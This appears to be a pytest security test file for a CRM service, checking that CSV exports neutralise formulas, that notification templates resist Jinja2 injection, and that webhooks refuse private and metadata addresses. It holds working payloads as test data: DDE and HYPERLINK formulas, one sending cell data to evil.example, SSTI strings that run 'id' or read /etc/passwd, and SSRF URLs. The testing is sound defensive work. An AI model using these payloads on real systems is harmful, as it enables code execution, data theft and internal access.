"""Hostile content that is stored and later shown or used: CSV formula injection (leads import and
every CSV export), template injection in notify (Jinja2 sandbox; event data is never template
code), webhook URLs at private addresses (refused at registration and at send time after DNS
resolution, with an explicit allow-list for local receivers)."""
from __future__ import annotations

import csv
import io
import socket
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent))
import _hostile as h  # noqa: E402

ADMIN = ("admin1", ("admin",), None)
MGR = ("mgr1", ("sales_manager",), "east")
REP = ("rep1", ("sales_rep",), "east")
WEST_REP = ("rep9", ("sales_rep",), "west")

FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)*cmd|' /C calc'!A0",
            '=HYPERLINK("http://evil.example/?x="&A1,"click")', "\t=1+1", "\r=2+2"]


# -- CSV ---------------------------------------------------------------------------------------------

def _rows(r) -> list[dict]:
    assert r.status_code == 200 and r.mimetype == "text/csv", (r.status_code, r.get_data(as_text=True)[:300])
    text = r.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def _export_cells(r) -> list[str]:
    text = r.get_data().decode("utf-8")[1:]
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_csv_formulas_are_imported_verbatim_and_neutralised_on_export(tmp_path):
    app = h.make_app("leads", tmp_path)
    try:
        c = h.Client(app)
        out = io.StringIO()
        w = csv.writer(out)
        w.writerow(["name", "company", "phone", "note", "city"])
        for i, f in enumerate(FORMULAS):
            w.writerow([f, f + " Co", f"1380000{i:04d}", f, "Hangzhou"])
        r = c.client.post("/v1/leads/import", data={"file": (io.BytesIO(out.getvalue().encode()), "x.csv")},
                          headers=h.auth(*MGR), content_type="multipart/form-data")
        assert r.status_code == 200 and r.get_json()["created"] == len(FORMULAS), r.get_json()
        # stored as the text it is: the import neither runs nor mangles a formula
        items = c.get("/v1/leads", ADMIN, query_string={"per_page": 100}).get_json()["items"]
        names = {x["name"] for x in items}
        assert {f.strip() for f in FORMULAS} <= names
        # exported with every formula cell neutralised, whatever column it is in
        r = c.get("/v1/leads/export", ADMIN)
        rows = _rows(r)
        assert len(rows) == len(FORMULAS)
        for row in rows:
            for col in ("name", "company", "note"):
                assert row[col].startswith("'"), (col, row[col])
                assert row[col][1:] in {f.strip() for f in FORMULAS} | {f.strip() + " Co" for f in FORMULAS}
        dangerous = [cell for cell in _export_cells(r) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert dangerous == []
        assert r.headers["Content-Disposition"].startswith("attachment;")
    finally:
        h.close(app)


def test_csv_export_shows_only_what_the_caller_may_see(tmp_path):
    app = h.make_app("leads", tmp_path)
    try:
        c = h.Client(app)
        c.ok("POST", "/v1/leads", REP, {"name": "Own Zhang", "phone": "13912340001"})
        c.ok("POST", "/v1/leads", WEST_REP, {"name": "West Li", "phone": "13912340002"})
        mine = _rows(c.get("/v1/leads/export", REP))
        # the phone is stored in E.164: its "+" would start a formula, so it leaves as text too
        assert [(x["name"], x["phone"]) for x in mine] == [("Own Zhang", "'+8613912340001")]
        theirs = _rows(c.get("/v1/leads/export", WEST_REP))
        assert [x["name"] for x in theirs] == ["West Li"]
        assert {x["name"] for x in _rows(c.get("/v1/leads/export", ADMIN))} == {"Own Zhang", "West Li"}
        # the list's filters apply; a service agent sees no leads at all
        assert _rows(c.get("/v1/leads/export?q=Zhang", ADMIN))[0]["name"] == "Own Zhang"
        assert _rows(c.get("/v1/leads/export", ("a1", ("service_agent",), None))) == []
        assert c.get("/v1/leads/export?team_id=abc", ADMIN).status_code == 422
    finally:
        h.close(app)


def test_every_csv_export_neutralises_formulas():
    """Every operation documented as text/csv is an export that goes through crm_shared.csvsafe."""
    from crm_shared.csvsafe import safe_cell, to_csv
    exports = [f"{m} {p}" for name in h.NAMES for m, p, op in h.operations(name)
               if "text/csv" in op.get("responses", {}).get("200", {}).get("content", {})]
    assert exports == ["GET /v1/leads/export"]  # a new export: add its test above
    for f in FORMULAS:
        assert safe_cell(f) == "'" + f
    assert safe_cell(-5) == "-5" and safe_cell("plain") == "plain" and safe_cell(None) == ""
    assert to_csv(["a"], [{"a": "=1"}]) == "\ufeffa\r\n'=1\r\n"


# -- templates ---------------------------------------------------------------------------------------

SSTI = ["{{ ''.__class__.__mro__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{{ lipsum.__globals__ }}", "{{ config }}",
        "{{ self.__init__.__globals__ }}", "{{ namespace.__init__.__globals__ }}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
        "{{ name|attr('__class__') }}", "{{ name['__class__'] }}", "{{ range(10**9)|list }}",
        "{% set x = 'a' * 100000000 %}{{ x }}", "{{ ().__class__.__bases__[0].__subclasses__() }}",
        "{% import 'os' as os %}", "{% include '/etc/passwd' %}", "{{ request }}", "{{ name.__len__() }}"]
LEAKS = ("<class", "subclasses", "function", "module", "root:", "globals", "uid=")


@pytest.fixture
def notify_app(tmp_path):
    app = h.make_app("notify", tmp_path, extra={"SMS_URL": f"file://{tmp_path}/sms.jsonl"})
    yield app
    h.close(app)


def test_template_injection_is_refused_or_inert(notify_app):
    c = h.Client(notify_app)
    refused = 0
    for source in SSTI:
        r = c.post("/v1/templates", ADMIN, {"event_type": "lead.assigned", "channel": "inbox", "language": "en",
                                            "subject": "s", "body": source})
        assert r.status_code in (201, 422), (source, r.status_code, r.get_json())
        if r.status_code == 422:
            assert "body" in r.get_json()["errors"], r.get_json()
            refused += 1
            continue
        tid = r.get_json()["id"]  # whatever got in renders as nothing dangerous
        r = c.post(f"/v1/templates/{tid}/preview", ADMIN, {"payload": {"name": "Li"}})
        assert r.status_code in (200, 422), (source, r.status_code)
        text = r.get_data(as_text=True)
        assert not any(x in text for x in LEAKS), (source, text[:300])
        assert c.call("DELETE", f"/v1/templates/{tid}", ADMIN).status_code == 204
    assert refused >= len(SSTI) // 2
    # the same through the preview of a shipped template, subject included
    r = c.post("/v1/templates", ADMIN, {"event_type": "lead.assigned", "channel": "inbox", "language": "en",
                                        "subject": "{{ ''.__class__ }}", "body": "ok"})
    assert r.status_code == 422 and "subject" in r.get_json()["errors"]


def test_event_data_is_never_template_code(notify_app):
    c = h.Client(notify_app)
    tpl = c.ok("POST", "/v1/templates", ADMIN, {"event_type": "lead.assigned", "channel": "inbox", "language": "en",
                                                "subject": "Lead {{ name }}", "body": "Hello {{ name }} of {{ company }}"})
    evil = {"name": "{{ 7*7 }}{{ ''.__class__ }}", "company": "{% for x in range(3) %}X{% endfor %}"}
    r = c.post(f"/v1/templates/{tpl['id']}/preview", ADMIN, {"payload": evil})
    assert r.status_code == 200, r.get_json()
    out = r.get_json()
    assert out["text"] == f"Hello {evil['name']} of {evil['company']}" and "49" not in out["text"]
    assert "&lt;" not in out["text"] and "{{ 7*7 }}" in out["subject"]
    # and through the real event path into a user's inbox
    c.ok("PUT", "/v1/recipients/rep1", ADMIN, {"email": "rep1@example.com", "language": "en"})
    h.deliver(notify_app, "notify", "lead.assigned", {"lead_id": "L1", "owner_id": "rep1", "team_id": "east",
                                                      "reason": "manual", **evil}, producer="leads")
    from notify import jobs
    jobs.send_due(h.runtime_of(notify_app))
    items = c.get("/v1/inbox", REP).get_json()["items"]
    assert items
    shown = " ".join(str(v) for it in items for v in it.values())
    assert "{{ 7*7 }}" in shown and "XXX" not in shown and "<class" not in shown


# -- webhooks ----------------------------------------------------------------------------------------

class Receiver:
    def __init__(self):
        self.hits: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                outer.hits.append(self.path)
                self.send_response(200)
                self.end_headers()

            def log_message(self, *a):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/hook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def receiver():
    r = Receiver()
    yield r
    r.close()


PRIVATE_URLS = ["http://127.0.0.1/x", "http://localhost/x", "http://10.0.0.8/x", "http://172.16.5.4/x",
                "http://192.168.1.1/x", "http://169.254.169.254/latest/meta-data/", "http://[::1]/x",
                "http://[fd00::1]/x", "http://0.0.0.0/x", "http://2130706433/x", "http://0x7f.0.0.1/x",
                "http://100.64.0.1/x", "http://[::ffff:127.0.0.1]/x", "http://[fe80::1]/x",
                "gopher://127.0.0.1/x", "file:///etc/passwd", "http://user:pw@8.8.8.8/x"]


def _hook(c, url, who=ADMIN):
    return c.post("/v1/webhooks", who, {"url": url, "event_types": ["lead.created"], "secret": "0123456789abcdef"})


def test_private_webhook_targets_are_refused_at_registration(tmp_path):
    app = h.make_app("notify", tmp_path, extra={"NOTIFY_WEBHOOK_ALLOW_PRIVATE": "0"})
    try:
        c = h.Client(app)
        for url in PRIVATE_URLS:
            r = _hook(c, url)
            assert r.status_code == 422 and "url" in r.get_json()["errors"], (url, r.status_code, r.get_json())
        assert c.get("/v1/webhooks", ADMIN).get_json() == []
    finally:
        h.close(app)


def test_a_name_that_resolves_to_a_private_address_later_is_refused_at_send_time(tmp_path, receiver, monkeypatch):
    """DNS rebinding: public when registered, loopback when the delivery connects."""
    from notify.channels import net
    port = int(receiver.url.rsplit(":", 1)[1].split("/")[0])
    answer = {"ip": "93.184.216.34"}
    real = socket.getaddrinfo

    def fake(host, *a, **kw):
        if host == "hooks.partner.example":
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (answer["ip"], port))]
        return real(host, *a, **kw)

    monkeypatch.setattr(net.socket, "getaddrinfo", fake)
    app = h.make_app("notify", tmp_path, extra={"NOTIFY_WEBHOOK_ALLOW_PRIVATE": "0"})
    try:
        c = h.Client(app)
        assert _hook(c, f"http://hooks.partner.example:{port}/hook").status_code == 201
        answer["ip"] = "127.0.0.1"
        h.deliver(app, "notify", "lead.created", {"lead_id": "L1", "status": "new"}, producer="leads")
        from notify import jobs
        jobs.send_due(h.runtime_of(app))
        assert receiver.hits == []
        [row] = c.get("/v1/deliveries?channel=webhook", ADMIN).get_json()
        assert row["status"] == "failed" and "private" in (row.get("last_error") or ""), row
    finally:
        h.close(app)


def test_the_allow_list_lets_a_local_receiver_in_and_nothing_else(tmp_path, receiver):
    app = h.make_app("notify", tmp_path, extra={"NOTIFY_WEBHOOK_ALLOW_NETWORKS": "127.0.0.1/32"})
    try:
        c = h.Client(app)
        assert _hook(c, receiver.url).status_code == 201
        for url in ("http://10.0.0.8/x", "http://169.254.169.254/latest", "http://127.0.0.2/x", "http://[::1]/x"):
            assert _hook(c, url).status_code == 422, url
        h.deliver(app, "notify", "lead.created", {"lead_id": "L2", "status": "new"}, producer="leads")
        from notify import jobs
        jobs.send_due(h.runtime_of(app))
        assert receiver.hits == ["/hook"]
    finally:
        h.close(app)


def test_a_bad_allow_list_entry_fails_loudly():
    from notify.channels.net import parse_networks
    assert [str(n) for n in parse_networks(" 127.0.0.1/32, 10.8.0.0/16 ,")] == ["127.0.0.1/32", "10.8.0.0/16"]
    with pytest.raises(ValueError):
        parse_networks("127.0.0.1/32,everything")
